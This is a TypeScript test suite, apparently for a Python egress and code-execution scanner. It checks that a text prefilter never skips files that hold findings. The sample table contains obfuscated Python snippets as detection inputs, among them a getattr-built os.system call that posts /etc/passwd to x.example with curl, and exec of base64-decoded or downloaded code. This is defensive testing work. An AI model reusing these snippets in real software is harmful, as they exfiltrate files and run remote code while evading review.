// The text prefilter is sound: a file it skips has no findings when analysed without it. Checked on
// the rule fixtures with each filter word renamed in turn (so the filter says "skip"), on hand-written
// edge cases, and on a sample of the standard library when python3 is present.
import { spawnSync } from 'node:child_process';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { defaultConfig } from '../src/config/load.js';
import type { RuleSet } from '../src/rules/load.js';
import { listedExists } from '../src/resolve/modules.js';
import { scanSources } from '../src/scan/scan.js';
import { withinBudget } from './helpers/budget.js';
import { builtinRules } from './helpers/engine.js';

const config = defaultConfig();
const rules = builtinRules(config);
const filter = rules.index.prefilter;
/** The same rules with the prefilter switched off (every file is parsed and analysed). */
const unfiltered: RuleSet = {
  ...rules,
  index: Object.create(rules.index, { prefilter: { value: { test: () => true } } }) as RuleSet['index'],
};

async function findingsWithoutFilter(path: string, text: string) {
  const r = await scanSources([{ path, content: Buffer.from(text) }], { config, rules: unfiltered });
  return r.findings.map((f) => `${f.file}:${f.startLine} ${f.ruleId} ${f.callee}`);
}

const fixtures = readdirSync('rules')
  .filter((f) => f.endsWith('.py'))
  .sort()
  .map((f) => ({ path: `rules/${f}`, text: readFileSync(join('rules', f), 'utf8') }));

describe('text prefilter', () => {
  it('lets every rule fixture through (each has findings)', () => {
    expect(fixtures.length).toBeGreaterThan(50);
    expect(fixtures.filter((f) => !filter.test(f.text)).map((f) => f.path)).toEqual([]);
  });

  /** Each fixture whole, and cut into top-level blocks that keep the fixture's import lines. */
  const pieces = fixtures.flatMap((f) => {
    const lines = f.text.split('\n');
    const imports = lines.filter((l) => /^(import|from)\s/.test(l)).join('\n');
    const blocks: string[] = [];
    let cur: string[] = [];
    for (const l of lines) {
      if (/^(import|from)\s/.test(l)) continue;
      if (/^\S/.test(l) && !/^[#@)\]}]/.test(l) && cur.some((c) => c.trim())) {
        blocks.push(cur.join('\n'));
        cur = [];
      }
      cur.push(l);
    }
    blocks.push(cur.join('\n'));
    return [f, ...blocks.map((b, i) => ({ path: `${f.path}#${i}`, text: `${imports}\n${b}\n` }))];
  });

  it('skips only files without findings: fixtures and their blocks with one filter word renamed', async () => {
    const vocabulary = new Set(filter.vocabulary());
    const variants: { path: string; text: string; what: string }[] = [];
    for (const f of pieces) {
      const present = new Set((f.text.match(/\b[A-Za-z_][A-Za-z0-9_]*\b/g) ?? []).filter((w) => vocabulary.has(w)));
      for (const w of present) {
        const text = f.text.replace(new RegExp(`\\b${w}\\b`, 'g'), `${w}Zq`);
        if (filter.test(text) || text.includes('egress:')) continue;
        variants.push({ path: `v${variants.length}.py`, text, what: `${f.path} with "${w}" renamed` });
      }
    }
    // One scan of every skipped variant (each file stands alone: no project index).
    const r = await scanSources(
      variants.map((v) => ({ path: v.path, content: Buffer.from(v.text) })),
      { config, rules: unfiltered },
    );
    const what = new Map(variants.map((v) => [v.path, v.what]));
    const leaks = r.findings.map((f) => `${what.get(f.file)}: ${f.startLine} ${f.ruleId} ${f.callee}`);
    expect(leaks).toEqual([]);
    expect(r.filesScanned).toBe(variants.length);
    expect(variants.length).toBeGreaterThan(500);
  });

  /**
   * Each fixture as a package whose simple import lines moved to a `compat` module that hands each
   * bound name on under an opaque alias (`import os` + `_m0 = os` there; `from pN.compat import _m0`
   * and `_m0.system(...)` in the fixture): every name the fixture resolves is then begun in one module
   * and finished in another, with its first word written only in the first, the route a file-by-file
   * word test cannot see.
   */
  function splitImports(text: string, pkg: string): { compat: string; main: string } | undefined {
    const compat: string[] = [];
    const aliases = new Map<string, string>();
    const body = text.split('\n').filter((line) => {
      const plain = /^import\s+([\w.]+(?:\s+as\s+\w+)?(?:\s*,\s*[\w.]+(?:\s+as\s+\w+)?)*)\s*$/.exec(line);
      const from = /^from\s+([\w.]+)\s+import\s+(\w+(?:\s+as\s+\w+)?(?:\s*,\s*\w+(?:\s+as\s+\w+)?)*)\s*$/.exec(line);
      if (!plain && !from) return true;
      compat.push(line);
      for (const part of (plain ? plain[1]! : from![2]!).split(',')) {
        const [name, alias] = part.trim().split(/\s+as\s+/);
        const bound = alias ?? (plain ? name!.split('.')[0]! : name!);
        if (!aliases.has(bound)) aliases.set(bound, `_m${aliases.size}`);
      }
      return false;
    });
    if (!aliases.size) return undefined;
    for (const [bound, alias] of aliases) compat.push(`${alias} = ${bound}`);
    const names = new RegExp(`\\b(?:${[...aliases.keys()].join('|')})\\b`, 'g');
    const main = [`from ${pkg}.compat import ${[...aliases.values()].join(', ')}`, ...body]
      .map((line) => line.replace(names, (w) => aliases.get(w)!))
      .join('\n');
    return { compat: `${compat.join('\n')}\n`, main };
  }

  it('skips only files without findings: fixtures with their imports moved to another module', async () => {
    const files: Record<string, string> = {};
    fixtures.forEach((f, i) => {
      const split = f.text.includes('egress:') ? undefined : splitImports(f.text, `p${i}`);
      if (!split) return;
      files[`p${i}/__init__.py`] = '';
      files[`p${i}/compat.py`] = split.compat;
      files[`p${i}/main.py`] = split.main;
    });
    const project = { exists: listedExists(Object.keys(files)), read: (p: string) => files[p] };
    const sources = Object.entries(files).map(([path, text]) => ({ path, content: Buffer.from(text) }));
    const seen = async (r: RuleSet) =>
      (await scanSources(sources, { config, rules: r, project })).findings.map(
        (f) => `${f.file}:${f.startLine} ${f.ruleId} ${f.callee}`,
      );
    const all = await seen(unfiltered);
    // The route is exercised: most fixtures keep findings once their imports have moved.
    expect(new Set(all.map((f) => f.split('/')[0])).size).toBeGreaterThan(40);
    expect(await seen(rules)).toEqual(all);
  });

  const samples: [string, string, boolean][] = [
    ['regex compile is not the builtin', 'import re\nPAT = re.compile(r"x")\nre.  compile("y")\n', false],
    ['attribute exec on a line continuation', 'import db\ndb.cursor().\\\n    exec("select 1")\n', false],
    ['platform.system is not os.system', 'import platform\nprint(platform.system())\n', false],
    ['plain module', 'import json, sys\n\ndef main(argv):\n    return json.dumps(argv)\n', false],
    [
      'ellipsis before a bare exec',
      'import urllib.request\ndef f(): ...\nexec(urllib.request.urlopen("http://x.example").read())\n',
      true,
    ],
    [
      'float before a bare exec',
      'import urllib.request\nx = 1.\nexec(urllib.request.urlopen("http://x.example").read())\n',
      true,
    ],
    [
      'getattr with a built attribute',
      'import os\ngetattr(os, "sys" + "tem")("curl -d @/etc/passwd http://x.example")\n',
      true,
    ],
    [
      '__import__ of a decoded name',
      'import base64\nm = __import__(base64.b64decode("cmVxdWVzdHM=").decode())\nm.post("https://x.example", data=1)\n',
      true,
    ],
    ['import_module', 'import importlib\nimportlib.import_module("req" + "uests").get("https://x.example")\n', true],
    ['aliased import', 'import requests as r\nr.post("https://api.example.com", json={})\n', true],
    ['from import with alias', 'from urllib.request import urlopen as fetch\nfetch("http://x.example")\n', true],
    [
      'client object through a variable',
      'import boto3\nc = boto3.client("s3")\nc.put_object(Bucket="b", Key="k", Body=b"")\n',
      true,
    ],
    [
      'exec reached through __builtins__',
      'import base64\n__builtins__.exec(base64.b64decode("aW1wb3J0IHVybGxpYi5yZXF1ZXN0OyB1cmxsaWIucmVxdWVzdC51cmxvcGVuKCJodHRwOi8veC5leGFtcGxlIik="))\n',
      true,
    ],
    ['names only in a docstring', '"""Wraps os.system and socket.socket."""\nimport json\n', false],
    ['names only in comments', 'import json\n# requests.post("https://x.example")\nx = 1  # os.system\n', false],
    ['getattr with a literal attribute', 'import os\nmode = getattr(os, "O_BINARY", 0)\n', false],
    ['getattr with a variable attribute', 'import os\ndef run(name, cmd):\n    getattr(os, name)(cmd)\n', true],
    ['getattr with implicitly joined literals', 'import os\ngetattr(os, "sys" "tem")("curl http://x.example")\n', true],
    ['getattr with an escaped literal', 'import os\ngetattr(os, "sys\\x74em")("curl http://x.example")\n', true],
    ['getattr passed around', 'import os\ng = getattr\ng(os, NAME)("curl http://x.example")\n', true],
    ['an f-string statement runs its fields', 'import os\nf"{os.system(\'curl http://x.example\')}"\n', true],
    ['builtin names defined, not read', 'class C:\n    def compile(self, exec=False):\n        eval = 1\n', false],
    ['builtin names only in strings', 'raise ValueError("cannot exec or eval or compile this")\n', false],
    ['builtin named in a string of vars(__builtins__)', 'ns = vars(__builtins__)\nns["exec"](CODE)\n', true],
    ['builtin named in a string of locals()', 'ns = locals()[KEY]\nns["exec"](CODE)\n', true],
    [
      'a string alone on its line inside brackets is a value',
      'import logging.config\nlogging.config.dictConfig({"version": 1, "handlers": {"h": {"host": "x.example", "url": "/", "class":\n"logging.handlers.HTTPHandler"\n}}})\n',
      true,
    ],
    // Attributes read by a computed name through a namespace: the file passes on its first word.
    ['a computed key of a module __dict__', 'import os\nos.__dict__["sys" + "tem"]("curl http://x.example")\n', true],
    ['a computed key of vars(module)', 'import os\nvars(os)["sys" + "tem"]("curl http://x.example")\n', true],
    ['builtins.vars of a module', 'import builtins, os\nbuiltins.vars(os)["sys" + "tem"]("curl x.example")\n', true],
    // A client-sites rule reports its SDK's module-level config.
    ['a module-level SDK config', 'import posthog\nposthog.host = "https://ph.example.com"\n', true],
    // The builtins module: only a use that may compute a builtin's name counts.
    ['builtins.exec', 'import builtins\nbuiltins.exec(CODE)\n', true],
    ['the builtins namespace by a computed key', 'import builtins\nbuiltins.__dict__["ex" + "ec"](CODE)\n', true],
    ['the builtins module passed around', 'import builtins\nns = builtins\ngetattr(ns, NAME)(CODE)\n', true],
    ['the builtins module aliased', 'import builtins as b\nb.exec(CODE)\n', true],
    ['a dict config class in the builtins module', 'CFG = {"()": "builtins.exec", "code": CODE}\n', true],
    [
      'builtins read by literal attributes',
      'import builtins\nwith builtins.open(p) as f:\n    data = f.read()\n',
      false,
    ],
    ['a from-import of the builtins module', 'from builtins import open as _open\n', false],
    ['the builtins module named in strings', 'KNOWN = ["builtins", "exec is a builtin", "__builtins__"]\n', false],
    // Words in prose strings are no names; a whole-name literal is (getattr, a dict config's class).
    ['a pattern word in a prose string', 'import os\nMSG = "os.system is not supported on this system"\n', false],
    ['a module named in a prose string', 'raise ValueError("no socket here: use requests.post instead")\n', false],
    [
      'a string annotation',
      'import httpx\ndef send(c: "Optional[httpx.Client]", body):\n    c.post("https://x.example", content=body)\n',
      true,
    ],
    ['words run together in a string', 'import os\nLABEL = "operating system"\n', false],
    ['a pattern word as a literal attribute', 'import os\ngetattr(os, "system")("curl http://x.example")\n', true],
    ['a namespace builtin only in a string', 'import os\nHELP = "see globals() and vars() and exec"\n', false],
    // A client alone reports nothing in its own file (importers of it are analysed: see modulePrefilter).
    ['a TLS context that connects nothing here', 'import ssl\nctx = ssl.create_default_context()\n', false],
    // `socket.socket` is written twice for the resolver to build it (a raw-socket site, when SOCK_RAW).
    ['the socket module named once', 'from socket import AF_INET as FAMILY\n', false],
    ['a socket made from the module', 'import socket\nsock = socket.socket(socket.AF_INET, socket.SOCK_RAW)\n', true],
  ];

  it('keeps a module that makes a client for its importers', () => {
    expect(rules.index.modulePrefilter.test('import ssl\nctx = ssl.create_default_context()\n')).toBe(true);
    expect(rules.index.modulePrefilter.test('import posthog\nclient = posthog.Posthog(KEY)\n')).toBe(true);
  });

  // Files the filter used to skip though they have findings.
  it.each([
    ['a computed key of a module __dict__', 'covert.process-egress', 2],
    ['a computed key of vars(module)', 'covert.process-egress', 2],
    ['a module-level SDK config', 'logging.posthog', 2],
    ['a string annotation', 'network.httpx', 3],
  ])('reports %s', async (name, rule, line) => {
    const text = samples.find(([n]) => n === name)![1];
    const r = await scanSources([{ path: 'x.py', content: Buffer.from(text) }], { config, rules });
    expect(r.findings.map((f) => [f.ruleId, f.startLine])).toContainEqual([rule, line]);
  });

  it('reports the exec reached through __builtins__ (a file the filter used to skip)', async () => {
    const text = samples.find(([name]) => name === 'exec reached through __builtins__')![1];
    const r = await scanSources([{ path: 'b.py', content: Buffer.from(text) }], { config, rules });
    expect(r.findings.map((f) => [f.ruleId, f.startLine, f.destination.host])).toContainEqual([
      'covert.exec-decoded',
      2,
      'x.example',
    ]);
  });

  // Each `getattr(` read its first argument to the end of the text: 20,000 of them took 7.8 s. Now each
  // reads at most 200 characters, and none once a computed getattr was seen (measured: under 0.1 s each).
  it.each([
    ['20,000 getattr( with no argument list closed', 'getattr('.repeat(20_000)],
    ['100,000 getattr with a literal attribute', 'import os\nx = getattr(a, "b")\n'.repeat(100_000)],
    ['a 2 MB literal of pattern words', `import os\nX = "${'system '.repeat(300_000)}"\n`],
    ['100,000 quoted module names', 'import os\nX = "os" + "socket" + "builtins"\n'.repeat(100_000)],
  ])('stays linear: %s', (_name, text) => withinBudget(2_000, () => expect(typeof filter.test(text)).toBe('boolean')));

  it.each(samples)('%s', async (name, text, passes) => {
    expect(filter.test(text)).toBe(passes);
    if (!passes) expect(await findingsWithoutFilter(`${name}.py`, text)).toEqual([]);
  });

  it('skips only files without findings: a sample of the standard library', async () => {
    const py = spawnSync('python3', ['-c', "import sysconfig; print(sysconfig.get_paths()['stdlib'])"], {
      encoding: 'utf8',
    });
    if (py.status !== 0) return; // no python3 here: the fixtures above still hold
    const root = py.stdout.trim();
    const files: string[] = [];
    for (const dir of ['', 'email', 'json', 'logging', 'http', 'urllib', 'xml/dom', 'concurrent/futures']) {
      try {
        for (const f of readdirSync(join(root, dir)).sort()) if (f.endsWith('.py')) files.push(join(root, dir, f));
      } catch {
        // layout differs: fine
      }
    }
    const leaks: string[] = [];
    let skipped = 0;
    for (const f of files.filter((_, i) => i % 3 === 0).slice(0, 80)) {
      const text = readFileSync(f, 'utf8');
      if (filter.test(text) || text.includes('egress:')) continue;
      skipped++;
      const found = await findingsWithoutFilter(f, text);
      if (found.length) leaks.push(`${f}: ${found.join('; ')}`);
    }
    expect(leaks).toEqual([]);
    expect(skipped).toBeGreaterThan(0);
  });
});
